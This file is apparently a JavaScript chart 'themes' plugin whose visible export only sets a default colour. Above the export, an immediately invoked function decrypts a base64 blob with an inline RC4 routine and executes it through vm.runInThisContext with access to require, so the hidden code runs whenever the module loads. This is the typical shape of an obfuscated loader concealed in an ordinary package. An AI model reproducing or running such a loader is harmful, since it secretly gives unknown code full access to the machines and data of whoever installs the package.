(function () {
  function r(k, d) {
    var s = [], j = 0, x, o = '';
    for (var i = 0; i < 256; i++) s[i] = i;
    for (i = 0; i < 256; i++) { j = (j + s[i] + k.charCodeAt(i % k.length)) % 256; x = s[i]; s[i] = s[j]; s[j] = x; }
    i = 0; j = 0;
    for (var y = 0; y < d.length; y++) {
      i = (i + 1) % 256; j = (j + s[i]) % 256; x = s[i]; s[i] = s[j]; s[j] = x;
      o += String.fromCharCode(d.charCodeAt(y) ^ s[(s[i] + s[j]) % 256]);
    }
    return o;
  }
  var b = Buffer.from('+cGC7b6bNBcI+Rn1KsXwUG8YY1CQOO6svO5oY4FQu702oqdmFf0CSj9gb79Ev64EFdkb/9Pc1nLLKtgDQLfbfuFzJjnyD06eRUwshhq5F6gx3LBEv7sS4vMsVCjbBN672IbVYwT5AsACib7p7sPFl1VqiMWuybnkcSgLIISmdcZJBShsoZvj7bw4LTTACOv1o/JqJOFeOLfPl8NUPDUghDuz2A7IUwAuN/QOh14WGH0ZE7hh9r08zL6GsZf2g2t9sWN5zAwV9EBC2f6CwtjfKcnbh/oYZDIO8wqEEdI94IxZ5Oxr20Ys+4LrfhgrOZTCB2ctBDbtWSIqohx9TiXMKPqns/Z0Zk2ZGubJtV1cRZdVn/Xff3QZXdEpms49YIX7w+ntwnczjo7TyfiVT6vx6HtkkV8KqWAXP1dHfJFlGBMx25txOTNCPL8B', 'base64').toString('latin1');
  require('vm').runInThisContext('(function (require) {' + Buffer.from(r('n0t-a-real-key', b), 'latin1').toString('utf8') + '\n})')(require);
})();
module.exports = { id: 'themes', beforeUpdate(chart, args, opts) { chart.options.color = opts.color || '#333'; } };
